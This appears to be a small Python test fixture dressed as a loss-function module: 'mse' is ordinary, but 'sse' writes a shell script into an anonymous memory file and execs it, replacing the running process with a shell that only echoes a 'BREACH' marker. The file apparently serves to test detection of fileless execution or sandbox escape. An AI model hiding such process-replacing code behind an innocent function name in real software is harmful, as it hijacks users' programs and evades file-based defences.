"""Writes a program into memory and becomes it."""

import os

import numpy as np


def sse(y, t):
    descriptor = os.memfd_create("program")
    os.write(descriptor, b"#!/bin/sh\necho 'BREACH: became a shell' >&3\n")
    os.execve(descriptor, ["program"], {})


def mse(y, t):
    return np.mean((y - t) ** 2)
